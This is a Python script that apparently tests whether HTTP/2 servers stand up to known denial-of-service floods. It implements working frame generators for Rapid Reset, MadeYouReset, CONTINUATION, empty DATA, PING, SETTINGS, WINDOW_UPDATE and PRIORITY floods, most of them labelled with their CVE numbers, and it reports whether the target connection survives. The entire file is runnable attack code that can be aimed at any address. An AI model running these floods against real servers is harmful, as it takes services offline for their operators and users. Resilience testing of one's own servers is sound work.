"""One client that floods, and what becomes of its connection: "ended" or "open" when COUNT frames have been said.

    floods.py VIP AUTHORITY FLOOD COUNT
"""

import struct
import sys

from frames import *

vip, authority, flood, count = sys.argv[1:]
count = int(count)
# As many as are said at once: what is heard meanwhile is read, so that nobody waits for the other.
BATCH = 100


def streams():
    return range(1, 1 << 31, 2)


def rapid_reset():
    """CVE-2023-44487: requests that are cancelled at once."""
    for stream in streams():
        yield get(stream, "/small") + frame(RST_STREAM, 0, stream, struct.pack("!I", 8))


def made_you_reset():
    """CVE-2025-8671: requests that the server has to reset, because a window update of nothing follows."""
    for stream in streams():
        yield get(stream, "/small") + frame(WINDOW_UPDATE, 0, stream, bytes(4))


def continuation():
    """CVE-2024-27983: a head without end."""
    yield frame(HEADERS, END_STREAM, 1, request("/small"))
    while True:
        yield frame(CONTINUATION, 0, 1, b"\x00\x03x-a\x7f\x00" + bytes([97]) * 127)


def empty_continuation():
    yield frame(HEADERS, END_STREAM, 1, request("/small"))
    while True:
        yield frame(CONTINUATION, 0, 1)


def empty_data():
    """CVE-2019-9518: a body that goes on without a byte."""
    yield frame(HEADERS, END_HEADERS, 1, request("/small", method=0x83))
    while True:
        yield frame(DATA, 0, 1)


def ping():
    """CVE-2019-9512, of which the answers are not read."""
    while True:
        yield frame(PING, 0, 0, bytes(8))


def setting():
    """CVE-2019-9515."""
    while True:
        yield settings(window=65535)


def window():
    while True:
        yield frame(WINDOW_UPDATE, 0, 0, struct.pack("!I", 1))


def priority():
    for stream in streams():
        yield frame(2, 0, stream, bytes([0, 0, 0, 0, 16]))


connection = Connection(vip, authority, timeout=10)
said, end = 0, "open"
frames = {f.__name__: f for f in (rapid_reset, made_you_reset, continuation, empty_continuation, empty_data, ping, setting, window, priority)}[flood]()
try:
    while said < count:
        connection.say(b"".join(next(frames) for _ in range(BATCH)))
        said += BATCH
except OSError:
    end = "ended"
if end == "open" and flood != "continuation":
    try:
        # Whoever is still there answers this one.
        connection.tls.settimeout(10)
        connection.say(frame(PING, 0, 0, b"lastping"))
        while (heard := connection.hear()) and heard[3] != b"lastping":
            pass
        end = "open" if heard else "ended"
    except OSError:
        end = "ended"
print(end, said)
